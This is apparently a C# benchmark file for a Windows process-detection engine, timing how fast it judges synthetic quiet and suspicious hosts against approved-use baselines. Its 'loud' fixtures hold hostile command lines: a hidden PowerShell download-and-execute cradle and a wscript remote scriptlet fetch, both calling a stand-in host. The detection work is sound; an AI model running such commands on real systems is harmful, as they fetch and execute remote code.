using BenchmarkDotNet.Attributes;
using TriageConsole.Detection;
using TriageConsole.Detection.Baseline;
using TriageConsole.Detection.Reference;
using TriageConsole.Domain.Baseline;
using TriageConsole.Domain.Detection;
using TriageConsole.Domain.Events;
using TriageConsole.Domain.Processes;

namespace TriageConsole.Benchmarks;

/// <summary>
/// Judging in memory, on as many threads as there are cores, one host each. Wanted on two cores: 300,000 processes a second
/// when nothing fires, 50,000 when everything does, 20 µs a chain for 10,000 approved uses, and costs that grow with the
/// number of processes and nothing else. Divide <see cref="Processes"/> by the mean.
/// </summary>
[MemoryDiagnoser]
public class DetectionBenchmark
{
    /// <summary>Processes judged by one call of each benchmark.</summary>
    public const int Processes = 40_000;

    private const int Hosts = 4;

    private readonly List<List<ProcessFacts>> _quiet = [];
    private readonly List<List<ProcessFacts>> _loud = [];
    private DetectionEngine _engine = null!;
    private BaselineMatcher _baseline = null!;
    private BaselineMatcher _alike = null!;
    private List<ProcessFacts> _fan = [];
    private List<ProcessFacts> _wideFan = [];
    private List<ProcessFacts> _quietTwice = [];
    private List<ProcessFacts> _loudTwice = [];

    /// <summary>Loads the shipped reference data and builds the hosts.</summary>
    [GlobalSetup]
    public void Setup()
    {
        var result = ReferenceData.Load(Directory.GetFiles(SeedFolder(), "*.json").ToDictionary(path => Path.GetFileName(path), File.ReadAllText));
        _engine = new DetectionEngine(result.Data ?? throw new InvalidOperationException(string.Join('\n', result.Faults)), DetectionSettings.Default);
        _baseline = BaselineMatcher.Create([.. Enumerable.Range(0, 10_000).Select(Use)], new DateTime(2030, 1, 1, 0, 0, 0, DateTimeKind.Utc));
        _alike = BaselineMatcher.Create([.. Enumerable.Range(0, 10_000).Select(Alike)], new DateTime(2030, 1, 1, 0, 0, 0, DateTimeKind.Utc));
        for (var host = 0; host < Hosts; host++)
        {
            _quiet.Add([.. Enumerable.Range(0, Processes / Hosts).Select(i => Quiet(host, i))]);
            _loud.Add([.. Enumerable.Range(0, Processes / Hosts).Select(i => Loud(host, i))]);
        }

        _quietTwice = [.. Enumerable.Range(0, Processes / Hosts * 2).Select(i => Quiet(0, i))];
        _loudTwice = [.. Enumerable.Range(0, Processes / Hosts * 2).Select(i => Loud(0, i))];
        _fan = [Loud(0, 0), .. Enumerable.Range(1, 5_000).Select(i => Quiet(0, i) with { ParentId = 1, StartUtc = Start(0) })];
    }

    /// <summary>The same with a million processes more, which would weigh on the collector in all others.</summary>
    [GlobalSetup(Target = nameof(FanOutOfAMillion))]
    public void SetupWide()
    {
        Setup();
        _wideFan = [Loud(0, 0), .. Enumerable.Range(1, 1_000_000).Select(i => Quiet(0, 0) with { Id = i + 1, ParentId = 1 })];
    }

    /// <summary>Nothing fires.</summary>
    [Benchmark(Baseline = true)]
    public int NothingFires() => Judge(_quiet, BaselineMatcher.Empty);

    /// <summary>Every process is a proxy host, or the child of one, with findings.</summary>
    [Benchmark]
    public int EverythingFires() => Judge(_loud, BaselineMatcher.Empty);

    /// <summary>The same against 10,000 approved uses.</summary>
    [Benchmark]
    public int EverythingFiresAgainstBaseline() => Judge(_loud, _baseline);

    /// <summary>One proxy host with 5,000 children.</summary>
    [Benchmark]
    public int FanOut() => _engine.Judge(_fan, BaselineMatcher.Empty).Count;

    /// <summary>Against 10,000 approved uses of one script host that only the middle of a pattern tells apart.</summary>
    [Benchmark]
    public int EverythingFiresAgainstAlikeBaseline() => Judge(_loud, _alike);

    /// <summary>One proxy host with a million children.</summary>
    [Benchmark]
    public int FanOutOfAMillion() => _engine.Judge(_wideFan, BaselineMatcher.Empty).Count;

    /// <summary>One quiet host on one thread; <see cref="QuietHostTwice"/> is to take twice as long.</summary>
    [Benchmark]
    public int QuietHost() => _engine.Judge(_quiet[0], BaselineMatcher.Empty).Count;

    /// <summary>A quiet host of twice the processes.</summary>
    [Benchmark]
    public int QuietHostTwice() => _engine.Judge(_quietTwice, BaselineMatcher.Empty).Count;

    /// <summary>One loud host on one thread; <see cref="LoudHostTwice"/> is to take twice as long.</summary>
    [Benchmark]
    public int LoudHost() => _engine.Judge(_loud[0], BaselineMatcher.Empty).Count;

    /// <summary>A loud host of twice the processes.</summary>
    [Benchmark]
    public int LoudHostTwice() => _engine.Judge(_loudTwice, BaselineMatcher.Empty).Count;

    /// <summary>What the outlines of a quiet host cost to look through.</summary>
    [Benchmark]
    public int QuietReach() => _engine.Reach(_quiet[0]).Count;

    private int Judge(List<List<ProcessFacts>> hosts, BaselineMatcher baseline)
    {
        var count = 0;
        Parallel.ForEach(hosts, host => Interlocked.Add(ref count, _engine.Judge(host, baseline).Count));
        return count;
    }

    private static DateTime Start(int i) => new DateTime(2030, 1, 1, 0, 0, 0, DateTimeKind.Utc).AddSeconds(i);

    private static ProcessFacts Quiet(int host, int i) => new()
    {
        Id = i + 1,
        Host = $"HOST-{host}",
        StartUtc = Start(i),
        Image = i % 3 == 0 ? @"C:\Windows\System32\svchost.exe" : @"C:\Program Files\Contoso\Agent\worker.exe",
        CommandLine = $@"""C:\Program Files\Contoso\Agent\worker.exe"" --job {i} --config ""C:\ProgramData\Contoso\agent.json""",
        OriginalFileName = i % 3 == 0 ? "svchost.exe" : "worker.exe",
        ParentId = i == 0 ? null : (i / 8) + 1,
        Witnesses = WitnessKind.Sysmon1,
    };

    private static ProcessFacts Loud(int host, int i) => (i % 2) switch
    {
        0 => Quiet(host, i) with
        {
            Image = @"C:\Windows\System32\wscript.exe",
            OriginalFileName = "wscript.exe",
            CommandLine = $@"wscript.exe //B ""C:\Users\anna\AppData\Local\Temp\job{i}.vbs"" script:https://files.example.com/{i}.sct",
            ParentId = null,
        },
        _ => Quiet(host, i) with
        {
            Image = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            OriginalFileName = "PowerShell.EXE",
            CommandLine = $"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://files.example.com/{i}')\"",
            ParentId = i,
        },
    };

    private static ApprovedUse Use(int i) => new()
    {
        Id = new Guid(i, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10),
        Title = $"Use {i}",
        Owner = "IT",
        Reason = "Inventory",
        State = ApprovedUseState.Active,
        ExpiresUtc = new DateTime(2030, 6, 1, 0, 0, 0, DateTimeKind.Utc),
        Conditions =
        [
            new(UseField.ProxyImage, @"c:\windows\system32\wscript.exe"),
            new(UseField.Script, $@"c:\scripts\inventory{i}.vbs"),
            new(UseField.User, @"CORP\svc-*"),
        ],
    };

    private static ApprovedUse Alike(int i) => Use(i) with
    {
        Conditions =
        [
            new(UseField.ProxyImage, @"c:\windows\system32\wscript.exe"),
            new(UseField.Script, $@"*\job*part{i}*.vbs"),
            new(UseField.Arguments, $"wscript.exe *part{i}*"),
        ],
    };

    private static string SeedFolder()
    {
        var folder = new DirectoryInfo(AppContext.BaseDirectory);
        while (folder is not null && !File.Exists(Path.Combine(folder.FullName, "TriageConsole.sln")))
            folder = folder.Parent;
        return Path.Combine(folder?.FullName ?? throw new InvalidOperationException("The solution is not above the benchmarks."), "seed-data", "detection");
    }
}
